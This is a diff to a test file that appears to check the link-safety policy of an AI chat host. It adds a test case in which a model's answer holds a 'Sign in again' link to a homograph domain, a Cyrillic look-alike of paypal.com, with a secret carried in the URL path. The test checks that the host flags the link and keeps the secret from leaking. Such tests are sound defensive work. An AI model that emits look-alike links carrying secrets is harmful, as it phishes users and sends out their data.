@@ -11,6 +11,7 @@ vi.mock('../../main/host/policy/inspectCall.ts', async (original) => (await impo
 vi.mock('../../main/host/policy/labels.ts', async (original) => (await import('./switchable.ts')).switchable(await original()));
 vi.mock('../../main/host/policy/leaveOut.ts', async (original) => (await import('./switchable.ts')).switchable(await original()));
 vi.mock('../../main/host/policy/openableUrl.ts', async (original) => (await import('./switchable.ts')).switchable(await original()));
+vi.mock('../../main/host/policy/shownUrl.ts', async (original) => (await import('./switchable.ts')).switchable(await original()));
 vi.mock('../../main/host/policy/patterns.ts', async (original) => (await import('./switchable.ts')).switchable(await original()));
 
 /** Longer than what a mark needs, even in halves. */
@@ -168,6 +169,22 @@ const byLink: Attack = {
   },
 };
 
+const byLookAlike: Attack = {
+  name: 'a link in an answer to a host that only looks like the one it means',
+  guard: 'a link whose host can be taken for another one is shown before it is opened',
+  off: { deceptiveLink: () => undefined },
+  async run(kind) {
+    const opened: string[] = [];
+    const stage = await setStage({ servers: {}, ports: { openUrl: async (url) => void opened.push(url) } });
+    const url = kind === 'attack' ? `https://p\u0430ypal.com/${secret}` : 'https://paypal.com/help';
+    await stage.chat([{ text: `[Sign in again](${url})` }], attentive);
+    // The person presses it, and does not open what he is shown.
+    const { doubtful } = await stage.host.run('link.open', { url });
+    if (doubtful) expect(doubtful).toMatchObject({ registrable: 'xn--pypal-4ve.com', looksLike: 'paypal.com' });
+    return { left: opened.join('\n').includes(secret), done: opened.includes(url) };
+  },
+};
+
 const { privateKey } = generateKeyPairSync('rsa', {
   modulusLength: 2048,
   privateKeyEncoding: { type: 'pkcs8', format: 'pem' },
@@ -198,4 +215,4 @@ const byProvider: Attack = {
   },
 };
 
-describeAttacks([byAddress, byHostName, byDisguise, inBase64, inHalves, byLink, byProvider]);
+describeAttacks([byAddress, byHostName, byDisguise, inBase64, inHalves, byLink, byLookAlike, byProvider]);
